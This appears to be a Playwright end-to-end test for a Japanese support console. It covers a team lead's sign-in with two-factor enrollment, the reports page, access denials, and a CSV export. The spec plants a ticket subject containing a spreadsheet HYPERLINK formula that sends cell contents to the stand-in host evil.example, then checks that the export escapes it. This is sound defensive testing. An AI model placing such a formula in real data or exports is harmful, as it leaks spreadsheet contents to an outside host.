import { randomBytes } from "node:crypto";
import { readFile } from "node:fs/promises";
import { expect, type Page, test } from "@playwright/test";
import { Authenticator, DEMO_PASSWORD } from "../support/account-kit";
import { withDatabase } from "../support/help-center-db";
import { createStaff } from "./console-session";

// Sign-ins are throttled per client address: this spec has an address of its own.
test.use({ extraHTTPHeaders: { "x-forwarded-for": "203.0.113.61" } });

const MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")';

/** First sign-in through the console's pages: password, then the mandatory two-factor enrollment. */
async function signInAndEnroll(page: Page, email: string): Promise<void> {
  await page.goto("/sign-in");
  await page.getByLabel("メールアドレス").fill(email);
  await page.getByLabel("パスワード").fill(DEMO_PASSWORD);
  await page.getByRole("button", { name: "サインインする" }).click();
  await expect(page).toHaveURL(/\/enroll-2fa$/);
  const app = new Authenticator((await page.getByTestId("manual-key").textContent()) ?? "");
  await page.getByLabel("確認コード（6桁）").fill(await app.nextCode());
  await page.getByRole("button", { name: "設定を完了する" }).click();
  await expect(page.getByTestId("recovery-codes").getByRole("listitem")).toHaveCount(10);
  await page.getByRole("link", { name: "保管したので管理コンソールへ進む" }).click();
}

/** A 入出金 inquiry filed a few minutes ago whose subject is a spreadsheet formula. */
async function fileMaliciousInquiry(): Promise<string> {
  const number = `Q-E2E-${randomBytes(3).toString("hex").toUpperCase()}`;
  await withDatabase((client) =>
    client.query(
      `INSERT INTO ticket (id, number, contact_email, trouble_type, subtype, subject, status, priority, team_id,
         locale, first_response_due_at, created_at, updated_at)
       SELECT gen_random_uuid(), $1, 'e2e-report@example.jp', 'funds', 'jpy_deposit_missing', $2, 'new', 'normal',
         t.id, 'ja', now() + interval '1 hour', now() - interval '10 minutes', now()
       FROM team t WHERE t.key = 'funds'`,
      [number, MALICIOUS],
    ),
  );
  return number;
}

test("a lead reads their window's reports, changes the period without script, and exports a safe CSV", async ({
  page,
}) => {
  test.setTimeout(90_000);
  const lead = await createStaff({ role: "lead", team: "funds", displayName: "E2E レポート リーダー" });
  const number = await fileMaliciousInquiry();
  await signInAndEnroll(page, lead.email);

  const menu = page.getByRole("navigation", { name: "メインメニュー" });
  await expect(menu.getByRole("link", { name: "監査ログ" })).toHaveCount(0);
  await menu.getByRole("link", { name: "レポート" }).click();
  await expect(page).toHaveURL(/\/reports$/);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("レポート");
  await expect(page.getByTestId("report-scope")).toContainText("入出金サポート");
  // Only the lead's own window can be chosen; the security window is not even offered.
  const windows = page.getByLabel("窓口");
  await expect(windows.locator("option")).toHaveText(["担当するすべての窓口", "入出金サポート"]);
  await expect(page.getByTestId("summary-volume")).toContainText("件");
  await expect(page.getByTestId("report-volume").getByRole("img")).toBeVisible();
  await expect(
    page.getByTestId("report-backlog").getByRole("img", { name: "未解決件数の推移" }),
  ).toBeVisible();

  // The filters are a plain GET form: the page reloads with the conditions in its address.
  await page.getByLabel("集計単位").selectOption("week");
  await page.getByRole("button", { name: "表示する" }).click();
  await expect(page).toHaveURL(/granularity=week/);
  await expect(page.getByTestId("report-volume").locator("tbody th").first()).toContainText("の週");

  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByTestId("csv-tickets").click(),
  ]);
  expect(download.suggestedFilename()).toMatch(
    /^madoguchi-tickets-all-\d{4}-\d{2}-\d{2}_\d{4}-\d{2}-\d{2}\.csv$/,
  );
  const bytes = await readFile((await download.path()) ?? "");
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const line =
    bytes
      .toString("utf8")
      .split("\r\n")
      .find((row) => row.startsWith(`${number},`)) ?? "";
  expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細はこちら"")"`);
  expect(line).not.toMatch(/,"?=HYPERLINK/);

  await page.goto("/reports?team=security");
  await expect(page.getByRole("main").getByRole("alert")).toContainText(
    "この窓口のレポートを表示する権限がありません。",
  );
  await page.goto("/audit");
  await expect(page.getByText("この画面を表示する権限がありません。")).toBeVisible();
});

test("the reports and their downloads need a signed-in lead or admin", async ({ page, request }) => {
  await page.goto("/reports");
  await expect(page.getByText("サインインが必要です。")).toBeVisible();
  const csv = await request.get("/api/reports/sla");
  expect(csv.status()).toBe(401);
  expect(csv.headers()["content-disposition"]).toBeUndefined();
});
